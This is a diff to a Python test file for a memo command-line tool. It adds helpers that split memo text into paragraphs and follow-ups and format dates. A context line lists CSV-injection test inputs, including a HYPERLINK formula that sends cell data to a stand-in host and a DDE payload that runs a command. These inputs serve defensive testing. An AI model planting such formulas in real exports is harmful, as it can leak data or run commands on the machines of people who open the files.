@@ -4,6 +4,7 @@
 Usage: cli_test.py PATH/TO/followup
 """
 import csv
+import datetime
 import hashlib
 import io
 import json
@@ -582,6 +583,38 @@ unit_backdate_days = 9999
 # What a spreadsheet would run, as OWASP's CSV-injection page lists it.
 FORMULAS = ['=HYPERLINK("http://x?x="&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1",
             " =1", "\uff1d1+1", "\uff20SUM(1)"]
+
+
+def memo_paragraphs(original):
+    """The memo's text as the Word memo's paragraphs: the runs of lines
+    between blank lines."""
+    out, lines = [], []
+    for line in original.split("\n"):
+        if line.rstrip(" \t") == "":
+            if lines:
+                out.append("\n".join(lines))
+            lines = []
+        else:
+            lines.append(line)
+    if lines:
+        out.append("\n".join(lines))
+    return out
+
+
+def memo_split(store, code, day):
+    """`memo CODE --as-of DAY` as text (DAY in 2005-06-01's form): the memo
+    as sent and its follow-up, the heading between them left out."""
+    shown = store.ok("--as", "dg", "memo", code, "--as-of", day)
+    heading = "\nFOLLOW-UP AS OF " + long_day(day).upper() + "\n\n"
+    return shown.split(heading)
+
+
+def long_day(day):
+    """2005-06-01 as the memos write it: 1 June 2005."""
+    d = datetime.date.fromisoformat(day)
+    months = ["January", "February", "March", "April", "May", "June", "July", "August", "September", "October",
+              "November", "December"]
+    return f"{d.day} {months[d.month - 1]} {d.year}"
 
 
 def formula_memo(texts):
